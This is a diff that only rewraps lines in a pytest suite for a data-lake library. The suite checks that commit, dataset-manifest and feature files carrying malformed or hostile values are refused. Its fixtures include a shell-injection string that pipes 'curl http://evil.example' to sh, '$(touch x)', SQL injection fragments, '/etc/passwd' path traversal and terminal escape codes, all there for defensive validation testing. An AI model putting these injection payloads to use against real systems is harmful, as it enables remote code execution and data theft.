@@ -18,7 +18,10 @@ NO_HASHES = ["", "0" * 63, "0" * 65, "G" * 64, "A" * 64, "0" * 64 + "\n", 0, Non
 
 
 def numbered(*cases):
-    return [pytest.param(*case, id=f"{number} {'.'.join(map(str, case[0]))} {ascii(case[1])[:30]}") for number, case in enumerate(cases)]
+    return [
+        pytest.param(*case, id=f"{number} {'.'.join(map(str, case[0]))} {ascii(case[1])[:30]}")
+        for number, case in enumerate(cases)
+    ]
 
 
 @pytest.fixture
@@ -36,7 +39,18 @@ def set_at(document, path, value):
 @pytest.mark.parametrize(
     ("path", "value"),
     numbered(
-        *((("recorded_at",), value) for value in ("0]::BIGINT", "2026-01-01", True, -62135596800000001, 253402300800000000, None, [])),
+        *(
+            (("recorded_at",), value)
+            for value in (
+                "0]::BIGINT",
+                "2026-01-01",
+                True,
+                -62135596800000001,
+                253402300800000000,
+                None,
+                [],
+            )
+        ),
         *((("start",), value) for value in NO_INTEGERS),
         *((("version",), value) for value in NO_INTEGERS),
         *((("root",), value) for value in NO_HASHES),
@@ -46,12 +60,35 @@ def set_at(document, path, value):
         *((("segments", 0, "sha256"), value) for value in (*NO_HASHES, "../" * 20 + "etc/pass")),
         *((("segments", 0, "bytes"), value) for value in NO_INTEGERS),
         *((("segments", 0, "undated"), value) for value in NO_INTEGERS),
-        *((("segments", 0, "columns"), value) for value in ([], ["id"], ["id", "source", "type", 'x" FROM'], ["id"] * 4, "id")),
-        *((("segments", 0, "types"), value) for value in ({}, {"": 10}, {"a\x00": 10}, {"a\x1b[2J": 10}, {"a": "10"}, {"a": True}, [])),
-        *((("segments", 0, "time"), value) for value in ([0], [0, 0, 0], ["0", "0"], [0, 1 << 62], [1, 0], 0)),
-        *((("segments", 0, "range"), value) for value in ([], None, ["0"], [None], ["0" * 64] * 200)),
+        *(
+            (("segments", 0, "columns"), value)
+            for value in ([], ["id"], ["id", "source", "type", 'x" FROM'], ["id"] * 4, "id")
+        ),
+        *(
+            (("segments", 0, "types"), value)
+            for value in (
+                {},
+                {"": 10},
+                {"a\x00": 10},
+                {"a\x1b[2J": 10},
+                {"a": "10"},
+                {"a": True},
+                [],
+            )
+        ),
+        *(
+            (("segments", 0, "time"), value)
+            for value in ([0], [0, 0, 0], ["0", "0"], [0, 1 << 62], [1, 0], 0)
+        ),
+        *(
+            (("segments", 0, "range"), value)
+            for value in ([], None, ["0"], [None], ["0" * 64] * 200)
+        ),
         *((("origin",), value) for value in ("", "a b", "a\n", "a+b", "x" * 201, 1, None)),
-        *((("commit_id",), value) for value in ("", "x", 1, None, "00000000-0000-4000-8000-00000000000G")),
+        *(
+            (("commit_id",), value)
+            for value in ("", "x", 1, None, "00000000-0000-4000-8000-00000000000G")
+        ),
         *((("deliveries", 0, "position"), value) for value in NO_INTEGERS),
         *((("deliveries", 0, "name"), value) for value in ("", "x" * 201, "a\x1b", 1, None)),
         *((("recent", "ids"), value) for value in ("A", "AAAA", "====", 1, None, "\x00")),
@@ -67,7 +104,9 @@ def test_a_commit_with_a_member_that_no_version_writes_is_refused_by_its_file(st
     forge_commit(storage, 3, lambda commit: set_at(commit, path, value))
     with pytest.raises(CorruptionError, match=r"^log/00000000000000000003\.json "):
         el.open(storage)
-    assert "log/00000000000000000003.json" in {finding.path for finding in verify_lake(storage).problems}
+    assert "log/00000000000000000003.json" in {
+        finding.path for finding in verify_lake(storage).problems
+    }
 
 
 def test_the_refusal_names_the_member_what_is_expected_and_what_was_found(storage):
@@ -79,7 +118,9 @@ def test_the_refusal_names_the_member_what_is_expected_and_what_was_found(storag
 
 
 def test_a_commit_of_a_newer_format_is_left_to_a_newer_eventlake_whatever_else_it_has(storage):
-    forge_commit(storage, 3, lambda commit: commit.update(format=2, surprise={"a": "b"}, recorded_at="later"))
+    forge_commit(
+        storage, 3, lambda commit: commit.update(format=2, surprise={"a": "b"}, recorded_at="later")
+    )
     with pytest.raises(UnsupportedFormatError, match="format 2"):
         el.open(storage)
 
@@ -109,15 +150,34 @@ HOSTILE_SETTINGS = [
 
 
 @pytest.mark.parametrize("settings", HOSTILE_SETTINGS, ids=str)
-@pytest.mark.parametrize("base", [{}, {"memory_limit": "4GB", "preserve_insertion_order": True, "threads": 1}], ids=["alone", "more"])
-def test_settings_that_this_version_does_not_write_reach_no_engine(storage, settings, base, tmp_path):
+@pytest.mark.parametrize(
+    "base",
+    [{}, {"memory_limit": "4GB", "preserve_insertion_order": True, "threads": 1}],
+    ids=["alone", "more"],
+)
+def test_settings_that_this_version_does_not_write_reach_no_engine(
+    storage, settings, base, tmp_path
+):
     if base | settings == base:
         pytest.skip("the settings of this version")
-    forged = {name: str(tmp_path / "out") if isinstance(value, str) and "/" in value else value for name, value in settings.items()}
-    manifest_hash = forge_dataset(storage, "paid", lambda manifest: manifest["recipe"].update(settings={**base, **forged}))
+    forged = {
+        name: str(tmp_path / "out") if isinstance(value, str) and "/" in value else value
+        for name, value in settings.items()
+    }
+    manifest_hash = forge_dataset(
+        storage, "paid", lambda manifest: manifest["recipe"].update(settings={**base, **forged})
+    )
     lake = el.open(storage)
-    for read in (lake.reproduce, lake.dataset, lambda one: lake.explain(one, "/loan/1"), lake.snapshot):
-        with pytest.raises(CorruptionError, match=r"builds/paid/[0-9a-f]{12}/manifest\.json is not a valid dataset manifest: expected"):
+    for read in (
+        lake.reproduce,
+        lake.dataset,
+        lambda one: lake.explain(one, "/loan/1"),
+        lake.snapshot,
+    ):
+        with pytest.raises(
+            CorruptionError,
+            match=r"builds/paid/[0-9a-f]{12}/manifest\.json is not a valid dataset manifest: expected",
+        ):
             read(manifest_hash[:12])
     with pytest.warns(UserWarning, match="settings"):
         assert [dataset.name for dataset in lake.datasets()] == ["risk"]
@@ -125,9 +185,15 @@ def test_settings_that_this_version_does_not_write_reach_no_engine(storage, sett
     assert not list(tmp_path.iterdir())
 
 
-@pytest.mark.parametrize("settings", [{}, {"memory_limit": "4GB", "preserve_insertion_order": True, "threads": 1}], ids=["exact", "fixed"])
+@pytest.mark.parametrize(
+    "settings",
+    [{}, {"memory_limit": "4GB", "preserve_insertion_order": True, "threads": 1}],
+    ids=["exact", "fixed"],
+)
 def test_settings_that_this_version_writes_are_run(storage, settings):
-    manifest_hash = forge_dataset(storage, "paid", lambda manifest: manifest["recipe"].update(settings=settings))
+    manifest_hash = forge_dataset(
+        storage, "paid", lambda manifest: manifest["recipe"].update(settings=settings)
+    )
     assert el.open(storage).reproduce(manifest_hash[:12]).identical
 
 
@@ -136,28 +202,64 @@ def test_settings_that_this_version_writes_are_run(storage, settings):
     numbered(
         *((("recipe", "name"), value) for value in ("", "../x", "a/b", "A", "a\x00", 1, None)),
         *((("recipe", "kind"), value) for value in ("python", "features", "SQL", "shell", None)),
-        *((("recipe", "entry"), value) for value in ("other.sql", "../query.sql", "query.sql:f", "", None)),
-        *((("recipe", "engine", "name"), value) for value in ("polars", "eventlake", "sqlite", None)),
-        *((("recipe", "engine", "version"), value) for value in ("1.0; curl http://evil.example | sh #", "$(touch x)", "", 2)),
+        *(
+            (("recipe", "entry"), value)
+            for value in ("other.sql", "../query.sql", "query.sql:f", "", None)
+        ),
+        *(
+            (("recipe", "engine", "name"), value)
+            for value in ("polars", "eventlake", "sqlite", None)
+        ),
+        *(
+            (("recipe", "engine", "version"), value)
+            for value in ("1.0; curl http://evil.example | sh #", "$(touch x)", "", 2)
+        ),
         *((("recipe", "level"), value) for value in ("EXACT", "certain", None)),
         *((("recipe", "check"), value) for value in ("proved", "", None)),
         *((("recipe", "checkpoint", "watermark"), value) for value in NO_INTEGERS),
         *((("recipe", "checkpoint", "root"), value) for value in NO_HASHES),
         *((("recipe", "clock_hash"), value) for value in NO_HASHES if value is not None),
-        *((("recipe", "sources"), value) for value in ({}, [], {"../../etc/passwd": "0" * 64}, {"/etc/passwd": "0" * 64})),
+        *(
+            (("recipe", "sources"), value)
+            for value in ({}, [], {"../../etc/passwd": "0" * 64}, {"/etc/passwd": "0" * 64})
+        ),
         *((("recipe", "parameters"), value) for value in ([], {"a": []}, {"a": "\x00"})),
         *((("recipe", "key"), value) for value in ([], ["a", "a"], "subject", [1], ["a\x00"])),
-        *((("recipe", "schemas"), value) for value in ([], {"a": "b"}, {"": "0" * 64}, {"a\x1b": "0" * 64})),
-        *((("recipe", "declared_schema"), value) for value in ([["a"]], [["a", "int"]], {}, [["a", "list<" * 2000]], [["a", 1]])),
-        *((("recipe", "spine"), value) for value in ({}, [], {"rows": -1, "content_hash": "0" * 64}, {"rows": 1, "content_hash": "x"})),
+        *(
+            (("recipe", "schemas"), value)
+            for value in ([], {"a": "b"}, {"": "0" * 64}, {"a\x1b": "0" * 64})
+        ),
+        *(
+            (("recipe", "declared_schema"), value)
+            for value in ([["a"]], [["a", "int"]], {}, [["a", "list<" * 2000]], [["a", 1]])
+        ),
+        *(
+            (("recipe", "spine"), value)
+            for value in (
+                {},
+                [],
+                {"rows": -1, "content_hash": "0" * 64},
+                {"rows": 1, "content_hash": "x"},
+            )
+        ),
         *((("output", "rows"), value) for value in NO_INTEGERS),
         *((("output", "content_hash"), value) for value in NO_HASHES),
-        *((("output", "schema"), value) for value in ([["n", "decimal(99, 2)"]], [["n", "utf8"], ["n", "utf8"]], [["n", "struct<"]], 1)),
+        *(
+            (("output", "schema"), value)
+            for value in (
+                [["n", "decimal(99, 2)"]],
+                [["n", "utf8"], ["n", "utf8"]],
+                [["n", "struct<"]],
+                1,
+            )
+        ),
         (("recipe", "surprise"), 1),
         (("surprise",), {}),
     ),
 )
-def test_a_dataset_manifest_with_a_member_that_no_version_writes_is_refused_by_its_file(storage, path, value):
+def test_a_dataset_manifest_with_a_member_that_no_version_writes_is_refused_by_its_file(
+    storage, path, value
+):
     forge_dataset(storage, "paid", lambda manifest: set_at(manifest, path, value))
     with pytest.warns(UserWarning, match=r"^builds/paid/[0-9a-f]{12}/manifest\.json "):
         assert [dataset.name for dataset in el.open(storage).datasets()] == ["risk"]
@@ -167,28 +269,59 @@ def test_a_dataset_manifest_with_a_member_that_no_version_writes_is_refused_by_i
 @pytest.mark.parametrize(
     ("path", "value"),
     numbered(
-        *((("features", 0, "where", "sign"), value) for value in ("> 0) OR (1=", "", "not", "null", "in", None, 1)),
-        *((("features", 0, "where", "parts"), value) for value in ([], [{}], None, [{"sign": ">"}] * 2)),
-        *((("features", 0, "offset"), value) for value in ("0 AS a", -1, 1.0, True, None, 200 * 366 * 86_400_000_000 + 1)),
+        *(
+            (("features", 0, "where", "sign"), value)
+            for value in ("> 0) OR (1=", "", "not", "null", "in", None, 1)
+        ),
+        *(
+            (("features", 0, "where", "parts"), value)
+            for value in ([], [{}], None, [{"sign": ">"}] * 2)
+        ),
+        *(
+            (("features", 0, "offset"), value)
+            for value in ("0 AS a", -1, 1.0, True, None, 200 * 366 * 86_400_000_000 + 1)
+        ),
         *((("features", 0, "window"), value) for value in ("30d", 0, -1, 1.5, True, 1 << 62)),
-        *((("features", 0, "kind"), value) for value in ("sum", "rate", "median", "count(*)", None, 1)),
+        *(
+            (("features", 0, "kind"), value)
+            for value in ("sum", "rate", "median", "count(*)", None, 1)
+        ),
         *((("features", 0, "event_type"), value) for value in ("", "a\x00", None, 1, [])),
         *((("features", 0, "field"), value) for value in ('x" FROM', "", 1, "a\x00")),
         *((("features", 0, "unit"), value) for value in ("d", "days", "d; DROP", 1)),
         *((("features", 0, "n"), value) for value in ("1", 1, -1, 1.0, True, 1001, None)),
         *((("features", 0, "name"), value) for value in ("", "a b", 'a"', "1a", None, "x" * 201)),
         *((("features", 1, "sign"), value) for value in ("**", "", ";", None, 1)),
-        *((("features", 1, "right"), value) for value in ("1; DROP", "NaN", "inf", "1_0", "\u0661", " 1", "1e999", "9" * 39, 2, None)),
+        *(
+            (("features", 1, "right"), value)
+            for value in (
+                "1; DROP",
+                "NaN",
+                "inf",
+                "1_0",
+                "\u0661",
+                " 1",
+                "1e999",
+                "9" * 39,
+                2,
+                None,
+            )
+        ),
         *((("depth",), value) for value in ("1}", 0, 21, True, 1.0)),
         *((("by",), value) for value in ("", None, 1, "a\x00")),
         *((("known",), value) for value in ("always", None, True)),
-        *((("via",), value) for value in ({}, [{}], [{"event_type": "a", "child": "", "parent": "p"}])),
+        *(
+            (("via",), value)
+            for value in ({}, [{}], [{"event_type": "a", "child": "", "parent": "p"}])
+        ),
         (("features",), []),
         (("format",), 2),
         (("surprise",), 1),
     ),
 )
-def test_a_description_of_features_with_a_member_that_no_version_writes_is_refused_by_its_file(storage, path, value):
+def test_a_description_of_features_with_a_member_that_no_version_writes_is_refused_by_its_file(
+    storage, path, value
+):
     def changed(data):
         document = json.loads(data)
         set_at(document, path, value)
@@ -206,7 +339,18 @@ def test_what_describes_features_is_read_as_it_was_declared():
 
 
 @pytest.mark.parametrize(
-    "text", ["", "[]", "{", "[" * 100_000, '{"features":' * 100_000, '{"by":"\ud800"}', "\x00", '{"a":NaN}'], ids=lambda one: one[:12]
+    "text",
+    [
+        "",
+        "[]",
+        "{",
+        "[" * 100_000,
+        '{"features":' * 100_000,
+        '{"by":"\ud800"}',
+        "\x00",
+        '{"a":NaN}',
+    ],
+    ids=lambda one: one[:12],
 )
 def test_what_is_no_description_of_features_is_refused_by_name(text):
     with pytest.raises(InvalidInputError, match=r"^feature set risk: features\.json: expected"):
@@ -248,7 +392,9 @@ def test_a_name_that_no_version_writes_is_told_in_words_and_shown(name, shown):
 @pytest.mark.parametrize("name", ["a\x1b[31mb", "a\nb", "\x00", "a\x85", "x" * 4_097, "é" * 2_049])
 def test_an_event_type_that_no_event_can_have_is_refused_in_words(name):
     lake = el.create(MemoryStorage(), origin="a.example/b")
-    with pytest.raises(InvalidInputError, match="without control characters and of at most 4,096 bytes") as caught:
+    with pytest.raises(
+        InvalidInputError, match="without control characters and of at most 4,096 bytes"
+    ) as caught:
         lake.register(name, {"type": "object", "properties": {"a": {"type": "integer"}}})
     assert len(caught.value.message) < 300
     lake.register("é" * 2_048, {"type": "object", "properties": {"a": {"type": "integer"}}})
@@ -259,9 +405,20 @@ def provenance_with(spine):
     machine = {"machine": "m", "polars_threads": 1, "python": "3", "system": "s"}
     files = {"part-0": {"bytes": 1, "sha256": "a" * 64}}
     hashes = {"commit_hash": None, "manifest_hash": "b" * 64}
-    rest = {"built_at": 1, "environment": machine, "files": files, "format": 1, "milliseconds": 1, "versions": {"python": "3"}}
-    plain = canonical_json({**hashes, **rest, "event_spine": {"a": "HERE"}}).replace(b'"HERE"', spine)
-    return plain.replace(b'"commit_hash"', b'"checksum":"%s","commit_hash"' % sha256_hex(plain).encode(), 1)
+    rest = {
+        "built_at": 1,
+        "environment": machine,
+        "files": files,
+        "format": 1,
+        "milliseconds": 1,
+        "versions": {"python": "3"},
+    }
+    plain = canonical_json({**hashes, **rest, "event_spine": {"a": "HERE"}}).replace(
+        b'"HERE"', spine
+    )
+    return plain.replace(
+        b'"commit_hash"', b'"checksum":"%s","commit_hash"' % sha256_hex(plain).encode(), 1
+    )
 
 
 def test_a_sealed_document_may_be_nested_to_its_bound():
